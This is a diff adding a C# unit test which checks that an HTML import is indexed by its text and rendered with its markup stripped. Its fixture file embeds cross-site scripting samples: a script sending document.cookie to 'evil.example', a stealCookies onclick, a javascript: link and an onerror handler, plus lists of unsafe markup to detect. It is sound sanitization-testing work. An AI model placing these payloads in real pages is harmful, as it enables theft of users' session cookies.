@@ -87,4 +87,54 @@ public sealed class ImportLibraryTests
         Assert.Equal(0, await database.CountAsync<Document>());
         Assert.Empty(await database.FoundKeysAsync("organizes"));
     }
+
+    private static readonly ImportLibrary.SourceFile Speech = new("speeches/congress.html", """
+        ---
+        key: congress-speech
+        title: Speech to the Congress
+        kind: lecture
+        ---
+        <html><head><title>ignored</title><style>.tagline { color: red }</style></head>
+        <body>
+        <h1 class="tagline">Our <em>Tasks</em></h1>
+        <p onclick="stealCookies()">The cooperatives <strong>federate</strong> in every province.</p>
+        <script>document.location = 'https://evil.example/' + document.cookie</script>
+        <ul><li>Literacy</li><li>Irrigation &amp; roads</li></ul>
+        <p>Quoted markup: &lt;script&gt;alert(2)&lt;/script&gt; and <a href="javascript:alert(3)">a link</a>.</p>
+        <img src="x" onerror="alert(4)">
+        </body></html>
+        """);
+
+    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
+    public async Task An_html_file_is_searched_by_its_text_not_its_tags_and_shown_without_its_markup(DatabaseProvider provider)
+    {
+        await using var database = await TestDatabase.CreateAsync(provider);
+        var tree = await database.CreateTreeAsync();
+
+        (await ImportAsync(database, tree.Centre, Speech)).Ok();
+
+        // The text between the tags is searched, words split by inline tags included; tags, attributes, scripts and styles are not.
+        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("cooperatives federate"));
+        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("\"our tasks\""));
+        Assert.Equal(["congress-speech"], await database.FoundKeysAsync("irrigation roads"));
+        foreach (var markup in HtmlMarkupWords) Assert.True((await database.FoundKeysAsync(markup)).Count == 0, markup);
+        var hit = (await database.SearchAsync("federate")).Single();
+        Assert.Contains("<mark>federate</mark>", hit.SnippetHtml);
+        Assert.DoesNotContain("<strong", hit.SnippetHtml);
+
+        await using var db = database.Context();
+        var id = await db.Documents.Where(d => d.Key == "congress-speech").Select(d => d.Id).SingleAsync(TestDatabase.Ct);
+        var view = (await LibraryQueries.GetAsync(database.Context(), Actor.System("test"), id, null, TestDatabase.Ct)).Ok();
+        Assert.Equal(DocumentFormat.Html, view.Format);
+        Assert.Equal([("Our Tasks", "our-tasks")], view.Headings.Select(h => (h.Title, h.Anchor)).ToList());
+        Assert.Contains("<h1 id=\"our-tasks\">Our Tasks</h1>", view.Html);
+        Assert.Contains("<li>Irrigation &amp; roads</li>", view.Html);
+        // Markup written as text stays text; no element, attribute or script URL of the file reaches the page.
+        Assert.Contains("&lt;script&gt;alert(2)&lt;/script&gt;", view.Html);
+        foreach (var unsafeMarkup in UnsafeHtml) Assert.DoesNotContain(unsafeMarkup, view.Html, StringComparison.OrdinalIgnoreCase);
+    }
+
+    private static readonly string[] HtmlMarkupWords = ["onclick", "stealCookies", "tagline", "strong", "evil", "cookie", "ignored", "color", "onerror", "href"];
+
+    private static readonly string[] UnsafeHtml = ["<script", "onclick", "onerror", "javascript:", "<img", "<style", "evil.example", "<a "];
 }
